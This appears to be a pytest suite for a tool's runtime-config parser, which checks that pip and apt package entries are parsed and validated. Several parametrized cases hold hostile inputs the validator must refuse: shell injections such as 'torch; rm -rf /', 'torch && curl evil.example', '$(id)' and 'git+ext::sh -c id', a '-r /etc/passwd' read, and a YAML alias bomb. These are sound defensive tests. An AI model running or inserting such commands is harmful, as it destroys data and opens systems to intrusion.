"""The runtime file: what people write in it, and what nobody may write in it."""

from pathlib import Path
from typing import Any

import pytest
import yaml

from puna.config import runtime
from puna.config.runtime import RuntimeSpec
from puna.errors import RuntimeSpecError


def packages(*entries: str) -> RuntimeSpec:
    return runtime.parse({"build": {"python_packages": list(entries)}})


def test_the_tutorials_file_is_read(tutorial: Path) -> None:
    spec = runtime.load(tutorial / "inferless-runtime-config.yaml")
    assert spec.cuda_version == "12.1.1"
    assert spec.system_packages == ("libssl-dev",)
    assert [*spec.python_packages] == ["torch==2.2.1", "vllm==0.4.1", "transformers==4.40.1"]
    assert spec.run == () and spec.pip_options == ()


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ("torch==2.1.2", ["torch==2.1.2"]),
        ("transformers>=4.40,<5", ["transformers>=4.40,<5"]),
        ("transformers >= 4.40, < 5", ["transformers>=4.40,<5"]),
        ("accelerate torch==2.0.1  numpy", ["accelerate", "torch==2.0.1", "numpy"]),
        ("uvicorn[standard]==0.30.0", ["uvicorn[standard]==0.30.0"]),
        ("torch==2.1.2+cu118", ["torch==2.1.2+cu118"]),
        ("numpy==1.*", ["numpy==1.*"]),
        ("six; python_version < '3.12'", ["six ; python_version < '3.12'"]),
        ("git+https://github.com/huggingface/diffusers", ["git+https://github.com/huggingface/diffusers"]),
        ("-e git+https://github.com/huggingface/peft.git#egg=peft", ["peft @ git+https://github.com/huggingface/peft.git"]),
        ("peft @ git+https://github.com/huggingface/peft.git@v0.9", ["peft @ git+https://github.com/huggingface/peft.git@v0.9"]),
        (
            "https://files.example/flash_attn-2.5-cp310-linux_x86_64.whl?download=true&x=y",
            ["https://files.example/flash_attn-2.5-cp310-linux_x86_64.whl?download=true&x=y"],
        ),
    ],
)  # fmt: skip
def test_entries_are_split_as_pips_command_line_would(entry: str, expected: list[str]) -> None:
    assert [*packages(entry).python_packages] == expected


def test_options_in_an_entry_hold_for_the_whole_installation() -> None:
    spec = packages("torch==2.1.0 --index-url https://download.example/whl/cu118", "--pre -f https://x.example/w.html")
    assert [*spec.python_packages] == ["torch==2.1.0"]
    assert spec.pip_options == (
        "--index-url", "https://download.example/whl/cu118", "--pre", "--find-links", "https://x.example/w.html",
    )  # fmt: skip
    assert packages("a --extra-index-url=https://x.example/simple").pip_options[1] == "https://x.example/simple"


@pytest.mark.parametrize(
    "entry",
    [
        "-r /etc/passwd",
        "--requirement=/etc/passwd",
        "-c https://x.example/c.txt",
        "torch\n--index-url https://evil.example",
        "torch; rm -rf /",
        "torch && curl evil.example",
        "torch | sh",
        "$(touch /tmp/x)",
        "`id`",
        "torch > /etc/motd",
        "--target=/usr six",
        "--config-settings=a=b six",
        "--global-option=x six",
        "--index-url file:///etc six",
        "--index-url -r six",
        "-f /etc six",
        "--find-links=/etc six",
        "-e .",
        "-e /opt/thing",
        "./thing.whl",
        "../thing",
        "/opt/thing.whl",
        "file:///opt/thing.whl",
        "thing @ file:///opt/thing.whl",
        "git+file:///opt/thing",
        "git+ext::sh -c id",
        "git+https://x.example/a --upload-pack=id",
        "six --index-url",
        "'unclosed",
        "six; os_name == 'a' ; rm",
        "six; import os",
    ],
)
def test_nothing_but_packages_gets_through(entry: str) -> None:
    with pytest.raises(RuntimeSpecError, match=r"build\.python_packages"):
        packages(entry)


def test_credentials_in_a_refused_entry_are_not_repeated() -> None:
    with pytest.raises(RuntimeSpecError) as caught:
        packages("--index-url ftp://user:secret@x.example/simple six")
    assert "secret" not in caught.value.message and "***" in caught.value.message


@pytest.mark.parametrize("name", ["libssl-dev; reboot", "-o=x", "a", "Lib", "$(id)", "lib\nid", "../x", "a/b"])
def test_apt_names_are_names(name: str) -> None:
    with pytest.raises(RuntimeSpecError, match=r"build\.system_packages"):
        runtime.parse({"build": {"system_packages": [name]}})


def test_an_apt_entry_may_hold_several_names_and_versions() -> None:
    spec = runtime.parse(
        {"build": {"system_packages": ["ffmpeg libgl1-mesa-glx", "g++", "libc6:amd64", "curl=7.88.1-10"]}}
    )
    assert spec.system_packages == ("ffmpeg", "libgl1-mesa-glx", "g++", "libc6:amd64", "curl=7.88.1-10")


@pytest.mark.parametrize("values", [{}, {"build": None}, {"build": {"python_packages": None, "run": None}}])
def test_empty_sections_are_empty(values: dict[str, Any]) -> None:
    assert runtime.parse(values) == RuntimeSpec()


def test_run_lines_are_kept_as_they_are_under_both_names() -> None:
    lines = ["apt list | head", "python -c 'print(1)'\necho two"]
    assert runtime.parse({"build": {"run": lines}}).run == tuple(lines)
    assert runtime.parse({"build": {"run_commands": lines}}).run == tuple(lines)


@pytest.mark.parametrize(
    ("values", "hint"),
    [
        ({"build": {"python_package": []}}, "python_packages"),
        ({"build": {"sytem_packages": []}}, "system_packages"),
        ({"biuld": {}}, "build"),
        ({"python_packages": []}, "build"),
    ],
)
def test_a_misspelt_key_is_told_the_right_one(values: dict[str, Any], hint: str) -> None:
    with pytest.raises(RuntimeSpecError) as caught:
        runtime.parse(values)
    assert hint in caught.value.hint


@pytest.mark.parametrize("value", [{"python_packages": [3]}, {"python_packages": {"a": 1}}, {"cuda_version": "twelve"}])
def test_values_of_the_wrong_kind_are_named(value: dict[str, Any]) -> None:
    with pytest.raises(RuntimeSpecError, match=next(iter(value))):
        runtime.parse({"build": value})


def test_an_unquoted_python_3_10_is_understood() -> None:
    assert runtime.parse_text("build:\n  python_version: 3.10\n").python_version == "3.10"
    assert runtime.parse_text("build:\n  python_version: '3.9'\n").python_version == "3.9"


def test_the_digest_follows_meaning_not_spelling() -> None:
    one = runtime.parse_text("build:\n  python_packages: [six==1.17.0, 'numpy >= 1']\n")
    two = runtime.parse_text("build:\n  run:\n  system_packages:\n  python_packages:\n  - six==1.17.0 numpy>=1\n")
    assert one.digest == two.digest
    assert one.digest != packages("six==1.16.0", "numpy>=1").digest
    assert one.digest != RuntimeSpec(python_packages=one.python_packages, python_version="3.9").digest


def test_what_is_written_out_is_read_back_equal() -> None:
    spec = packages(
        "six; python_version < '3.12'", "torch==2.1 --index-url https://x.example/w", "-e git+https://x.example/a#egg=a"
    )
    assert runtime.parse_text(spec.as_yaml()) == spec
    assert runtime.parse_text(runtime.default().as_yaml()) == runtime.default()


def test_the_file_is_found_under_its_usual_names(tmp_path: Path) -> None:
    assert runtime.find(tmp_path) is None
    (tmp_path / "config.yaml").write_text("learning_rate: 3\n")
    assert runtime.find(tmp_path) is None
    (tmp_path / "config.yaml").write_text("build:\n")
    assert runtime.find(tmp_path) == tmp_path / "config.yaml"
    (tmp_path / "runtime.yaml").write_text("build:\n")
    assert runtime.find(tmp_path) == tmp_path / "runtime.yaml"
    (tmp_path / "mine.yaml").write_text("build:\n")
    assert runtime.find(tmp_path, "mine.yaml") == tmp_path / "mine.yaml"


def test_text_that_is_no_mapping_is_refused() -> None:
    for text in ("- a\n", "a: [", "build: 3\n"):
        with pytest.raises(RuntimeSpecError):
            runtime.parse_text(text)


def test_an_alias_bomb_is_refused_in_a_moment() -> None:
    levels = "".join(f"x{i}: &x{i} [{', '.join([f'*x{i - 1}'] * 9)}]\n" for i in range(1, 12))
    for key in ("python_packages", "cuda_version", "system_packages"):
        text = f"x0: &x0 [a]\n{levels}build: {{{key}: [*x11]}}\n"
        values = yaml.safe_load(text)
        with pytest.raises(RuntimeSpecError, match=key) as caught:
            runtime.parse({"build": values["build"]})
        assert len(caught.value.message) < 1000
